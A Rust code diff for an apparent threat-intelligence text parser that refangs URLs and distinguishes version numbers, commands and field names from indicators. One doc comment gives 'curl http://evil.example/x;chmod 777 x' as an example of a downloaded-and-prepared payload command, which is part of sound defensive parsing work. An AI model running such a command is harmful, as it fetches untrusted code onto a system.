@@ -14,8 +14,9 @@ const VERSION_WORDS: [&str; 36] = [
 ];
 
 /// Words between a version and the one before it.
-const CONNECTORS: [&str; 12] = [
-    "and", "before", "below", "from", "is", "of", "or", "prior", "than", "through", "to", "until",
+const CONNECTORS: [&str; 13] = [
+    "and", "before", "below", "from", "in", "is", "of", "or", "prior", "than", "through", "to",
+    "until",
 ];
 
 /// Words behind a version.
@@ -164,6 +165,17 @@ pub(super) fn begins_scheme(rest: &str) -> bool {
     refang::scheme_word(rest).is_some_and(|(word, _)| scheme_end(&rest[word.len()..]).is_some())
 }
 
+/// Returns whether behind a semicolon stands a word rather than the parameter of a path, as in
+/// `curl http://evil.example/x;chmod 777 x`.
+pub(super) fn begins_command(rest: &str) -> bool {
+    let is_of_word = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.');
+    let length = rest.bytes().take(LOOK_BACK).take_while(is_of_word).count();
+    let next = rest.as_bytes().get(length).copied();
+    length > 0
+        && length < LOOK_BACK
+        && next.is_none_or(|it| it.is_ascii_whitespace() || matches!(it, b';' | b'|'))
+}
+
 /// Returns the offset of the `http` or `https` that ends a word, defanged or not.
 pub(super) fn http_scheme_start(word: &Word<'_>) -> Option<usize> {
     [5, 4].into_iter().find_map(|length| {
@@ -225,11 +237,12 @@ pub(super) fn begins_path(rest: &str) -> bool {
     rest.starts_with('/') || rest.starts_with("[/]") || rest.strip_prefix('?').is_some_and(is_query)
 }
 
-/// Returns whether the path is that of a source file of a versioned module.
+/// Returns whether the path is that of a source file of a versioned module, or of a container's
+/// image.
 pub(super) fn is_source_path(url: &str) -> bool {
     let is_version =
         |(at, _): (usize, &str)| url[at + 2..].starts_with(|it: char| it.is_ascii_digit());
-    url.contains(".go:") || url.match_indices("@v").any(is_version)
+    url.contains(".go:") || url.contains("@sha256:") || url.match_indices("@v").any(is_version)
 }
 
 /// Returns whether an entity of HTML that ends an attribute or an element's text begins here.
@@ -261,6 +274,9 @@ pub(super) fn is_version(text: &str, start: usize, after: &str) -> bool {
     if BEHIND_VERSION.iter().any(|words| after.starts_with(words)) || after.starts_with("-beta") {
         return true;
     }
+    if is_behind_mixed_case(before) {
+        return true;
+    }
     let word = word_before(before);
     if VERSION_WORDS.contains(&word.as_str()) || word.ends_with("version") {
         return true;
@@ -273,7 +289,7 @@ pub(super) fn is_version(text: &str, start: usize, after: &str) -> bool {
         .next()
         .unwrap_or_default();
     let line = line.to_ascii_lowercase();
-    ["version", "upgrade", "update ", "patched"]
+    ["version", "upgrade", "update ", "patched", "fixed"]
         .iter()
         .any(|it| line.contains(it))
 }
@@ -300,6 +316,28 @@ fn is_product(before: &str) -> bool {
         }
     }
     name.ends_with(char::is_alphabetic)
+}
+
+/// Returns whether a word such as `PowerShell` and a blank stand before. The names of fields, such as
+/// `SourceIP`, have more often an equals sign or a colon behind them.
+fn is_behind_mixed_case(before: &str) -> bool {
+    let Some(before) = tail(before, LOOK_BACK).strip_suffix(' ') else {
+        return false;
+    };
+    let word = before.rsplit(|it: char| !it.is_ascii_alphabetic()).next();
+    let word = word.unwrap_or_default();
+    let is_turn = |pair: &[u8]| pair[0].is_ascii_lowercase() && pair[1].is_ascii_uppercase();
+    let is_field = word_is_place(word);
+    word.as_bytes().windows(2).any(is_turn) && !is_field
+}
+
+/// Returns whether a word ends as the names of fields with an address do.
+fn word_is_place(word: &str) -> bool {
+    let word = word.to_ascii_lowercase();
+    let ends = [
+        "ip", "addr", "address", "host", "server", "client", "node", "src", "dst",
+    ];
+    ends.iter().any(|end| word.ends_with(end))
 }
 
 /// Returns the place behind the name of an algorithm and a hyphen or an underscore.
